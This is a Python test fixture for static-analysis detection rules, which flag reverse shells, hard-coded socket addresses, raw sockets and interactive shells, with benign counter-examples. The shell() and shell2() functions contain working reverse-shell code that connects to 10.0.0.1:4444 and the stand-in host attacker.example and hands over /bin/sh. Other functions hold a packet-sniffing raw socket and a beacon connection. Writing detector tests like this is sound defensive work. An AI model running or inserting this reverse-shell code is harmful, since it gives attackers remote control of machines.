# ruff: noqa
# fmt: off
import asyncio
import os
import pty
import socket
import subprocess


def shell():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # ruleid: py-socket-literal-address
    s.connect(("10.0.0.1", 4444))
    # ruleid: py-reverse-shell
    os.dup2(s.fileno(), 0)
    # ruleid: py-reverse-shell
    os.dup2(s.fileno(), 1)
    # ruleid: py-reverse-shell
    pty.spawn("/bin/sh")


def shell2():
    # ruleid: py-socket-literal-address
    s = socket.create_connection(("attacker.example", 9001))
    # ruleid: py-reverse-shell, py-interactive-shell
    subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())


def sniff():
    # ruleid: py-raw-socket
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))


async def beacon():
    # ruleid: py-socket-literal-address
    reader, writer = await asyncio.open_connection("203.0.113.9", 8443)


def benign():
    host = os.environ["REDIS_HOST"]
    s = socket.socket()
    # ok: py-socket-literal-address
    s.connect((host, int(os.environ.get("REDIS_PORT", "6379"))))
    # ok: py-reverse-shell
    subprocess.run(["ls", "-l"], capture_output=True, check=True)
    # ok: py-raw-socket
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return s, u


async def support_session():
    # ruleid: py-interactive-shell
    proc = await asyncio.create_subprocess_exec("/bin/sh", "-i", stdin=asyncio.subprocess.PIPE)
    # ruleid: py-interactive-shell
    subprocess.Popen(["bash", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    # ruleid: py-interactive-shell
    os.execv("/bin/bash", ["bash", "-i"])
    return proc


async def scripted():
    # ok: py-interactive-shell
    proc = await asyncio.create_subprocess_exec("/bin/sh", "-c", "ls -l /tmp")
    # ok: py-interactive-shell
    subprocess.run(["convert", "-i", "in.png", "out.jpg"], check=True)
    return proc
